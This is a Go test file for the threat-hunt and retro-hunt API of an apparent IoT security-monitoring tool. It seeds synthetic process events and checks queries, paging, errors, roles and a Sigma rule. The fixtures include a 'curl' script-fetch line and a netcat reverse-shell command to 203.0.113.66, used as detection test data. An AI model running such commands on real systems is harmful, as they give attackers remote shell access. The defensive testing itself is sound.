package web

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigil-iot/vigil"
	"github.com/vigil-iot/vigil/detect/sigma"
	"github.com/vigil-iot/vigil/hunt"
	"github.com/vigil-iot/vigil/store"
)

func huntEnv(t *testing.T) *env {
	e := newEnv(t, func(o *Options) {
		o.Extra = HuntRoutes(&Hunt{Src: o.Store.(store.Analytics), Clock: fixedClock(now)})
	})
	var evs []vigil.Event
	for i := range 150 {
		evs = append(evs, vigil.Event{ID: fmt.Sprint("e", i), Time: now.Add(-time.Duration(i) * time.Minute), DeviceID: fmt.Sprint("cam-", i%3), Kind: "process",
			Fields: map[string]any{"process.command_line": []string{"curl http://x/a.sh", "sshd"}[i%2]}})
	}
	if err := e.store.PutEvents(t.Context(), evs); err != nil {
		t.Fatal(err)
	}
	return e
}

func TestHuntAPI(t *testing.T) {
	e := huntEnv(t)
	var res HuntResponse
	post := func(role, body string, want int) []byte {
		t.Helper()
		code, b, _ := e.do("POST", "/api/v1/hunt", role, body)
		if code != want {
			t.Fatalf("POST /api/v1/hunt %s = %d %s, want %d", body, code, b, want)
		}
		return b
	}
	b := post("viewer", `{"query":"process.command_line=*CURL* | stats count by device.id"}`, 200)
	if err := json.Unmarshal(b, &res); err != nil {
		t.Fatal(err)
	}
	if fmt.Sprint(res.Columns, res.Rows) != "[device.id count] [[cam-0 25] [cam-1 25] [cam-2 25]]" || res.Truncated {
		t.Errorf("stats = %v %v truncated %v", res.Columns, res.Rows, res.Truncated)
	}
	// Events: a page, truncated, with the cursor of the next.
	b = post("viewer", `{"query":"process.command_line=*curl*","limit":50}`, 200)
	res = HuntResponse{}
	json.Unmarshal(b, &res)
	if len(res.Events) != 50 || !res.Truncated || res.Next == "" {
		t.Fatalf("page 1: %d events, truncated %v, next %q", len(res.Events), res.Truncated, res.Next)
	}
	b = post("viewer", `{"query":"process.command_line=*curl*","limit":50,"cursor":"`+res.Next+`"}`, 200)
	res = HuntResponse{}
	json.Unmarshal(b, &res)
	if len(res.Events) != 25 || res.Truncated || res.Next != "" {
		t.Fatalf("page 2: %d events, truncated %v, next %q", len(res.Events), res.Truncated, res.Next)
	}
	// A bad query says where.
	b = post("viewer", `{"query":"kind=auth AND"}`, 400)
	if errorCode(t, b) != vigil.EINVALID || !strings.Contains(string(b), "at position 14: expected a condition") {
		t.Errorf("bad query: %s", b)
	}
	post("", `{"query":"kind=auth"}`, 401)
	post("viewer", `{"query":"kind=auth","bogus":1}`, 400)
}

func TestRetrohuntAPI(t *testing.T) {
	var (
		mu     sync.Mutex
		alerts []vigil.Alert
	)
	var retro *hunt.Retro
	e := newEnv(t, func(o *Options) {
		retro = &hunt.Retro{Src: o.Store.(store.Analytics), Store: o.Store, Publish: func(_ context.Context, as []vigil.Alert) error {
			mu.Lock()
			defer mu.Unlock()
			alerts = append(alerts, as...)
			return nil
		}}
		o.Extra = RetrohuntRoutes(&Retrohunt{Retro: retro, Jobs: context.Background(), Clock: fixedClock(now),
			Builtin: func() (*sigma.RuleSet, error) { return nil, vigil.Errorf(vigil.EINTERNAL, "not in this test") }})
	})
	ev := vigil.Event{ID: "x1", Time: now.Add(-time.Hour), DeviceID: "cam-1", Kind: "process", Action: "exec",
		Fields: map[string]any{"process.command_line": "busybox nc 203.0.113.66 4444 -e /bin/sh", "process.name": "busybox", "process.executable": "/bin/busybox"}}
	if err := e.store.PutEvents(t.Context(), []vigil.Event{ev}); err != nil {
		t.Fatal(err)
	}
	rule := `title: nc with -e
id: 5f0c4a4e-1111-4a4e-9a4e-111111111111
logsource: {category: process_creation, product: linux}
detection:
  sel: {CommandLine|contains: ' -e /bin/sh'}
  condition: sel
level: high
`
	body, _ := json.Marshal(RetroRequest{RulesYAML: rule, RulesName: "nc.yml", Indicators: []string{"203.0.113.99"}, Since: "-7d"})
	code, b, _ := e.do("POST", "/api/v1/retrohunt", "analyst", string(body))
	if code != 202 {
		t.Fatalf("POST /api/v1/retrohunt = %d %s", code, b)
	}
	var job hunt.RetroJob
	json.Unmarshal(b, &job)
	retro.Wait()
	e.get("/api/v1/retrohunt/"+job.ID, 200, &job)
	if job.State != "done" || job.Matched != 1 || job.Alerts != 1 || job.Spec.RulesName != "nc.yml" || job.Spec.Since.IsZero() {
		t.Fatalf("job = %+v", job)
	}
	mu.Lock()
	if len(alerts) != 1 || !alerts[0].Retro || alerts[0].Title != "nc with -e" {
		t.Errorf("alerts = %+v", alerts)
	}
	mu.Unlock()
	var l struct{ Items []hunt.RetroJob }
	e.get("/api/v1/retrohunt", 200, &l)
	if len(l.Items) != 1 {
		t.Errorf("jobs = %+v", l.Items)
	}
	for _, bad := range []string{`{}`, `{"rules":"mine"}`, `{"rules_yaml":"title: x"}`, `{"indicators":["1.2.3.4"],"since":"yesterday"}`} {
		if code, b, _ := e.do("POST", "/api/v1/retrohunt", "analyst", bad); code != 400 {
			t.Errorf("POST %s = %d %s; want 400", bad, code, b)
		}
	}
	if code, _, _ := e.do("POST", "/api/v1/retrohunt", "viewer", `{"indicators":["1.2.3.4"]}`); code != 403 {
		t.Errorf("viewer may start a retro-hunt: %d", code)
	}
	e.get("/api/v1/retrohunt/nope", 404, nil)
}
